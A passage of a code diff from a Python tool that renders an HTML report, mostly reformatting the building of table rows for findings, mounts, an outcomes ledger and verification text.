+        "script": script,
+        "script_sha256": sha256(script),
+        "data": data,
+        **static_slots(report),
+    }
     return re.sub(r"\{\{(\w+)\}\}", lambda slot: slots[slot[1]], (PAGE / "report.html").read_text())
 
 
@@ -350,17 +799,28 @@ def static_slots(report):
     )
     findings = "".join(
         f'<tr class="r{one["rank"]}"><td class="rank">{one["rank"]}</td><td class="change">{one["change"]}</td>'
-        f'<td class="subject">{text(one["subject"])}</td><td>' + "".join(f"<div>{text(r['text'])}</div>" for r in one.get("reasons", [])) + "</td></tr>"
+        f'<td class="subject">{text(one["subject"])}</td><td>'
+        + "".join(f"<div>{text(r['text'])}</div>" for r in one.get("reasons", []))
+        + "</td></tr>"
         for one in report["findings"]
         if one["rank"] <= 3
     )
-    mounts = "".join(f"<tr><td><code>{text(one['path'])}</code></td><td>{text(one['fstype'])}</td><td>{text(one['decision'])}</td></tr>" for one in report["mounts"])
-    ledger = "".join(f"<tr><td>{side['side']}</td><td>{text(name)}</td><td class='number'>{n}</td></tr>" for side in report["ledger"].get("sides", []) for name, n in side["outcomes"].items())
+    mounts = "".join(
+        f"<tr><td><code>{text(one['path'])}</code></td><td>{text(one['fstype'])}</td><td>{text(one['decision'])}</td></tr>"
+        for one in report["mounts"]
+    )
+    ledger = "".join(
+        f"<tr><td>{side['side']}</td><td>{text(name)}</td><td class='number'>{n}</td></tr>"
+        for side in report["ledger"].get("sides", [])
+        for name, n in side["outcomes"].items()
+    )
     return {
         "static_head": head,
         "static_story": f'<ol class="story">{story}</ol>',
         "static_findings": f'<table class="findings"><thead><tr><th>rank</th><th>change</th><th>subject</th><th>reasons</th></tr></thead><tbody>{findings}</tbody></table>',
         "static_mounts": f"<table><thead><tr><th>path</th><th>type</th><th>decision</th></tr></thead><tbody>{mounts}</tbody></table>",
         "static_ledger": f"<table><thead><tr><th>side</th><th>outcome</th><th>number</th></tr></thead><tbody>{ledger}</tbody></table>",
-        "static_verification": "".join(f"<h3>{text(one['side'])}</h3><p>{text(one['sentence'])}</p>" for one in report["verification"]),
+        "static_verification": "".join(
+            f"<h3>{text(one['side'])}</h3><p>{text(one['sentence'])}</p>" for one in report["verification"]
+        ),
     }
